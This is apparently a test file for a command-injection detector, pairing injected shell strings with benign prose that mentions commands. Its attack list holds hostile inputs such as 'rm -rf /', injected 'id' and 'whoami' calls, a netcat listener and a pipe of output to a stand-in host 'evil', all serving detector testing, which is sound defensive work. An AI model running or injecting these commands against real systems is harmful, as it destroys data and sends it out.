import { cmdiDetector } from "../src/detectors/cmdi/index.js";
import { describeRules, scoreOf } from "./helpers.js";

describeRules("command injection: prose that names or spells a command", (value) => scoreOf(cmdiDetector, value), {
  // A POSIX shell refuses a line with an unterminated quote (nothing on it runs); cmd.exe reads `i'd` literally.
  "a contraction after an operator, its apostrophe never closed, in a sentence that goes on": {
    attacks: [
      ";id",
      "&id",
      "| id",
      "& whoami",
      "$(id)",
      "`id`",
      "a&id&b",
      "x & i'd",
      "x|i'd",
      "';i'd",
      ";i'd'",
      'x & i\'d like "it"',
      "me & I'd",
    ],
    benign: [
      "Tom & I'd like to come",
      "Tom & I'll be there",
      "Tom & we'd go",
      "Yes; I'd love to",
      "x & i'd like 'it'",
      "Sam & I'd rather wait",
    ],
  },
  "a file in a binary directory, then a sentence about it": {
    // `bin/semver.js` alone is a project's script as package.json names it: package-manifests.test.ts.
    attacks: ["/bin/evil", "usr/bin/evil", "/usr/bin/evil arg", ";/usr/bin/evil", "bin/x.js -v"],
    benign: [
      "bin/semver.js has the details",
      "see bin/semver.js for details",
      "bin/www starts the server.",
      "Run node bin/cli.js to start",
    ],
  },
  "a command and its options named in a sentence": {
    attacks: [
      "rm -rf /",
      ";ls -la",
      "ls -la",
      "rm -rf *",
      "rm -rf ~",
      "ls -la /tmp",
      "rm -rf tmp",
      "nc -lvp 4444",
      "cat -n notes.txt",
      "ls -la output attached; id",
      "ls -la output attached | nc evil 80",
      "ping -c 10 localhost",
      // After a shell operator the words are arguments, however plain.
      "x; rm -rf home user",
      "a && ls -la output attached",
    ],
    benign: ["rm -rf is dangerous, don't run it", "ls -la output attached", "nc -lvp is how you listen", "Run ls -la to list"],
  },
});
